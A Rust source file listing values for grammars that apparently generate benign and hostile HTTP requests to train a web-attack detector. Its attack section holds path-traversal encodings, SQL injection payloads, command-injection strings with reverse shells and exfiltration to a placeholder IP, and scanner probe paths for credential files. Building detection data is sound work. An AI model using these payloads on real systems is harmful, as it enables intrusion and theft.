//! The values the request grammars draw from. Every fourth value of each list (index % 4 == 3)
//! is held out of training (see `grammar`). The benign words include ones that attacks use too
//! (select, union, drop, sleep, order, cat, shell, admin, git, config, password): real sites have
//! them in slugs and searches.

/// Words of searches, slugs and parameter values.
pub const WORDS: &[&str] = &[
    "shoes", "red", "cheap", "flights", "paris", "weather", "recipe", "chicken", "pasta", "best",
    "laptop", "review", "how", "to", "fix", "leaking", "faucet", "garden", "ideas", "summer",
    "dress", "running", "headphones", "wireless", "coffee", "maker", "python", "tutorial", "guide",
    "beginners", "home", "office", "chair", "camping", "tent", "winter", "jacket", "kids", "toys",
    "book", "club", "news", "today", "local", "election", "results", "football", "scores", "movie",
    "times", "pizza", "near", "me", "hotel", "deals", "london", "berlin", "tokyo", "train",
    "tickets", "birthday", "gift", "for", "dad", "vegan", "cake", "easy", "dinner", "yoga", "mat",
    "phone", "case", "battery", "life", "tips", "union", "station", "select", "committee", "drop",
    "shipping", "table", "lamp", "sleep", "apnea", "order", "status", "cat", "food", "dog", "bed",
    "admin", "assistant", "jobs", "shell", "beach", "script", "writing", "environment", "git",
    "basics", "config", "file", "format", "window", "cleaner", "jack", "blue", "green", "black",
    "white", "large", "small", "men", "women", "sale", "new", "used", "bike", "helmet", "kitchen",
    "knife", "set", "the", "and", "of", "with", "without", "sugar", "free", "bread", "sourdough",
    "starter", "plant", "care", "indoor", "outdoor", "solar", "panel", "electric", "car", "charger",
    "insurance", "quote", "mortgage", "rates", "tax", "return", "deadline", "visa", "passport",
    "renewal", "map", "route", "bus", "schedule", "museum", "opening", "hours", "concert",
    "festival", "2024", "2025", "guitar", "lessons", "piano", "chords", "lyrics", "podcast",
    "episode", "season", "finale", "update", "release", "notes", "install", "windows", "linux",
    "mac", "error", "code", "login", "password", "reset", "account", "delete", "privacy", "policy",
    "terms",
];

/// Non-ASCII words (sent percent-encoded as UTF-8, or now and then raw).
pub const UNICODE_WORDS: &[&str] = &[
    "café", "über", "niño", "straße", "crème brûlée", "東京", "москва", "서울", "açaí", "jalapeño",
    "smörgåsbord", "zürich", "kraków", "são paulo", "naïve", "résumé", "piñata", "ελληνικά", "日本語",
    "français",
];

/// Query parameter names of pages and APIs.
pub const PARAMS: &[&str] = &[
    "page", "per_page", "limit", "offset", "sort", "lang", "category", "color", "size", "brand",
    "min_price", "max_price", "tag", "view", "format", "tab", "filter", "fields", "include",
    "expand", "locale", "currency", "region", "type", "status", "since", "until", "author", "year",
    "source", "mode", "q",
];

pub const UTM_SOURCES: &[&str] = &[
    "newsletter", "google", "facebook", "twitter", "linkedin", "email", "partner", "reddit", "bing",
    "instagram", "tiktok", "youtube",
];

pub const UTM_MEDIA: &[&str] = &[
    "email", "cpc", "social", "display", "referral", "affiliate", "organic", "banner",
];

/// Directories of static files.
pub const ASSET_DIRS: &[&str] = &[
    "assets", "static", "css", "js", "img", "images", "fonts", "media", "dist", "build", "public",
    "uploads", "vendor", "static/js", "static/css", "assets/img", "cdn", "res", "themes/default",
    "_next/static/chunks",
];

pub const ASSET_NAMES: &[&str] = &[
    "main", "app", "bundle", "vendor", "runtime", "polyfills", "styles", "theme", "logo", "hero",
    "banner", "icon", "sprite", "header", "footer", "jquery", "bootstrap", "react", "chunk",
    "analytics", "font-awesome", "roboto", "inter", "background", "avatar", "thumbnail", "product",
    "slider", "index", "common", "print", "favicon",
];

pub const EXTENSIONS: &[&str] = &[
    "css", "js", "png", "jpg", "svg", "woff2", "ico", "webp", "gif", "map", "json", "txt", "pdf",
    "mp4", "webm", "ttf", "jpeg", "woff", "avif", "xml",
];

/// First path segments of pages.
pub const SECTIONS: &[&str] = &[
    "blog", "news", "docs", "help", "wiki", "products", "shop", "category", "about", "careers",
    "events", "stories", "guides", "support", "learn", "community", "forum", "articles", "recipes",
    "collections", "press", "topics", "store", "tutorials",
];

/// REST resources.
pub const RESOURCES: &[&str] = &[
    "users", "orders", "products", "items", "carts", "invoices", "accounts", "comments", "posts",
    "reviews", "tickets", "projects", "teams", "events", "payments", "shipments", "customers",
    "subscriptions", "notifications", "messages", "files", "reports", "tasks", "repos", "articles",
    "categories", "tags", "addresses", "coupons", "devices", "environments", "sessions",
];

pub const SUBRESOURCES: &[&str] = &[
    "items", "comments", "history", "settings", "members", "avatar", "attachments", "status",
    "permissions", "lines", "versions", "activity",
];

/// Form and API endpoints that take POST.
pub const FORMS: &[&str] = &[
    "/login", "/graphql", "/checkout", "/cart/add", "/comments", "/subscribe", "/contact",
    "/upload", "/oauth/token", "/session", "/api/track", "/collect", "/signup", "/newsletter",
    "/feedback", "/password/reset",
];

/// Pages every site serves.
pub const MISC: &[&str] = &[
    "/", "/favicon.ico", "/robots.txt", "/sitemap.xml", "/index.html", "/manifest.json",
    "/apple-touch-icon.png", "/health", "/healthz", "/ping", "/status", "/.well-known/security.txt",
    "/socket.io/?EIO=4&transport=polling", "/feed.xml", "/ads.txt", "/humans.txt", "/sw.js",
    "/browserconfig.xml", "/.well-known/apple-app-site-association", "/login", "/cart",
    "/account/orders", "/about-us", "/contact",
];

// ---- Attacks ----

/// Pages with a parameter an attack goes into ("path?param"; a bare path means "?id").
pub const TRAVERSAL_CARRIERS: &[&str] = &[
    "/download?file", "/index.php?page", "/view?template", "/image?name", "/static?path",
    "/files?f", "/api/v1/export?path", "/read?doc", "/include.php?inc", "/show?lang", "/assets?src",
    "/report?filename", "/cgi/viewer?f", "/preview?src", "/theme?style", "/main.php?module",
];

/// One directory climb, in its many spellings.
pub const TRAVERSAL_STEPS: &[&str] = &[
    "../", "..%2f", "..%2F", "%2e%2e/", "%2e%2e%2f", "..\\", "%2E%2E%2F", "..%5c",
    "%252e%252e%252f", "..;/", "....//", "%2e%2e%5c", "%c0%ae%c0%ae/", "..%252f", ".%2e/", "%2e./",
    "..././", "..%255c", "..%c0%af", "%uff0e%uff0e/",
];

/// Files worth reading, relative to the root.
pub const TRAVERSAL_FILES: &[&str] = &[
    "etc/passwd", "etc/shadow", "windows/win.ini", "etc/hosts", "boot.ini", "proc/self/environ",
    "etc/issue", "var/log/apache2/access.log", "WEB-INF/web.xml", "etc/group",
    "windows/system32/drivers/etc/hosts", "root/.ssh/id_rsa", "proc/self/cmdline",
    "usr/local/etc/php.ini", "etc/nginx/nginx.conf", "inetpub/wwwroot/web.config",
    "var/www/html/wp-config.php", "etc/mysql/my.cnf", "home/ubuntu/.bash_history",
    "app/config/parameters.yml", "etc/passwd", "windows/win.ini", "etc/shadow",
];

/// Absolute paths and wrappers (local file inclusion without climbing).
pub const ABSOLUTE_FILES: &[&str] = &[
    "/etc/passwd", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
    "C:%5Cwindows%5Cwin.ini", "/proc/self/environ", "%2fetc%2fpasswd", "/etc/shadow",
    "php://filter/read=string.rot13/resource=config.php", "file:///c:/windows/win.ini",
    "/var/log/nginx/access.log", "%2Fetc%2Fhosts", "/root/.bash_history",
];

/// SQL injection payloads; {n} is a number, {t} a table.
pub const SQLI: &[&str] = &[
    "' OR 1=1--", "' OR '1'='1", " OR 1=1", "\" OR \"\"=\"", "' OR 'a'='a'--", "'--", "' OR 1=1#",
    "' AND 1=1--", "' UNION SELECT NULL,NULL--", "' UNION SELECT username,password FROM {t}--",
    " UNION ALL SELECT 1,2,3,{n}--", "' UNION SELECT table_name FROM information_schema.tables--",
    " AND SLEEP({n})", "' AND SLEEP({n})#", "'; WAITFOR DELAY '0:0:{n}'--",
    " AND BENCHMARK({n}000000,MD5(1))", "' || pg_sleep({n})--", "; DROP TABLE {t}--",
    "'; EXEC xp_cmdshell('dir')--", " AND extractvalue(1,concat(0x7e,version()))",
    "' AND updatexml(1,concat(0x7e,user()),1)--", " ORDER BY {n}--",
    "' AND 1=(SELECT COUNT(*) FROM {t})--", "' AND (SELECT 1 FROM (SELECT SLEEP({n}))a)--",
    "' OR ''='", ") OR (1=1", "')) OR 1=1--", " AND 1=CONVERT(int,@@version)--",
    "' AND SUBSTRING(@@version,1,1)='5",
    "' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)--", "%' AND 1=1 AND '%'='",
    " RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "' OR SLEEP({n})='",
    ";SELECT pg_sleep({n})", "' AND ASCII(SUBSTRING((SELECT password FROM {t} LIMIT 1),1,1))>64--",
    "' UNION SELECT @@version,NULL#", " AND 1=2 UNION SELECT {n},user(),database()--",
    "' OR EXISTS(SELECT * FROM {t})--", "\" OR 1=1--", "' HAVING 1=1--",
];

pub const TABLES: &[&str] = &[
    "users", "admin", "accounts", "members", "customers", "login", "wp_users", "passwords",
];

pub const SQLI_CARRIERS: &[&str] = &[
    "/product.php?id", "/item?id", "/news.php?news_id", "/search?q", "/user?username",
    "/category?cat", "/shop/product?product_id", "/article?aid", "/login.php?user", "/list?sort",
    "/api/items?order", "/view.php?page", "/profile?uid", "/catalog?pid", "/index.php?option",
    "/store?category",
];

/// Shell commands an injection runs; {ip}, {port}, {f} (a file), {n} (a number).
pub const COMMANDS: &[&str] = &[
    "id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "wget http://{ip}/{f}",
    "curl http://{ip}/{f}|sh", "nc -e /bin/sh {ip} {port}", "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "ping -c {n} {ip}", "sleep {n}", "rm -rf /tmp/{f}", "chmod +x /tmp/{f}",
    "busybox wget http://{ip}/{f}", "python -c 'import os;os.system(\"id\")'", "cat /etc/shadow",
    "echo aWQK|base64 -d|sh", "net user", "cmd /c dir", "nslookup {f}.{ip}", "tftp -g -r {f} {ip}",
    "cd /tmp;wget http://{ip}/{f};sh {f}", "uname -m", "ifconfig", "printenv", "ps aux", "which nc",
    "/bin/sh -c id", "perl -e 'system(\"id\")'", "powershell -enc SQBFAFgA",
    "curl -d @/etc/passwd http://{ip}/", "env",
];

/// How a command is joined to the value: a prefix, or a wrapper around CMD.
pub const SEPARATORS: &[&str] = &[
    ";", "|", "&&", "%0a", "%3b", "||", "`CMD`", "$(CMD)", "%7c", "%26%26", ";CMD;", "%0d%0a",
    "|CMD|", "%26", "%3BCMD%3B", "$(CMD)%23",
];

/// Values the injected parameter carries before the command.
pub const CMD_VALUES: &[&str] = &[
    "127.0.0.1", "8.8.8.8", "example.com", "", "localhost", "file.txt", "10.0.0.1", "google.com",
    "report.pdf", "1", "test", "192.168.1.1",
];

pub const CMD_CARRIERS: &[&str] = &[
    "/ping?host", "/api/v1/diagnostics?ip", "/admin/tools/ping.php?addr",
    "/tools/traceroute?target", "/exec?cmd", "/status?server", "/api/network/test?domain",
    "/debug/run?query", "/convert?file", "/lookup?domain", "/whois?q", "/backup?dir",
    "/mail/send?email", "/utils/dns?name", "/cgi/diag?daemon", "/api/log?filename",
];

/// Paths that scanners probe for exposed files, admin panels and known-vulnerable software.
pub const PROBES: &[&str] = &[
    "/.env", "/.git/config", "/wp-admin/", "/.env.production", "/phpmyadmin/", "/actuator/env",
    "/cgi-bin/luci", "/.aws/credentials", "/HNAP1/", "/boaform/admin/formLogin",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.git/HEAD", "/wp-login.php",
    "/xmlrpc.php", "/.env.local", "/.svn/entries", "/.DS_Store", "/.htaccess", "/server-status",
    "/.htpasswd", "/manager/html", "/solr/admin/info/system", "/actuator/heapdump",
    "/actuator/gateway/routes", "/jmx-console/", "/_ignition/execute-solution",
    "/telescope/requests", "/GponForm/diag_Form?images/", "/backup.sql", "/db.sql", "/dump.sql",
    "/wp-config.php.bak", "/phpinfo.php", "/info.php", "/shell.php", "/admin/config.php",
    "/pma/index.php", "/myadmin/scripts/setup.php", "/owa/auth/logon.aspx", "/remote/login",
    "/+CSCOE+/logon.html", "/dana-na/auth/url_default/welcome.cgi", "/tmui/login.jsp",
    "/mgmt/tm/util/bash", "/console/login/LoginForm.jsp", "/api/jsonws/invoke", "/druid/index.html",
    "/nacos/v1/auth/users", "/geoserver/web/", "/ReportServer", "/cgi-bin/mainfunction.cgi",
    "/?XDEBUG_SESSION_START=phpstorm", "/index.php?s=/Index/\\think\\app/invokefunction",
    "/wp-includes/wlwmanifest.xml", "/wp-content/plugins/wp-file-manager/readme.txt",
    "/.vscode/sftp.json", "/.git/logs/HEAD", "/config/database.yml", "/storage/logs/laravel.log",
    "/docker-compose.yml", "/.bash_history", "/elmah.axd", "/trace.axd", "/web.config",
    "/cgi-bin/kerbynet?Section=NoAuthREQ", "/jenkins/script", "/invoker/JMXInvokerServlet",
    "/axis2/axis2-admin/", "/CFIDE/administrator/",
    "/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___", "/.git/index", "/id_rsa",
    "/sftp-config.json", "/cgi-bin/test-cgi", "/admin/.env", "/wp-content/debug.log",
    "/phpMyAdmin/setup/index.php", "/actuator/mappings", "/solr/", "/hudson/script",
    "/autodiscover/autodiscover.json", "/.well-known/../.env", "/database.sql", "/backup.zip",
    "/setup.cgi?next_file=netgear.cfg", "/HNAP1", "/boaform/formPing", "/cgi-bin/login.cgi",
];

/// Directories scanners put before a probe ("/blog/.env").
pub const PROBE_DIRS: &[&str] = &[
    "blog", "wordpress", "wp", "old", "backup", "test", "new", "site", "app", "api", "v1", "admin",
    "public", "laravel", "cms", "dev", "staging", "shop",
];
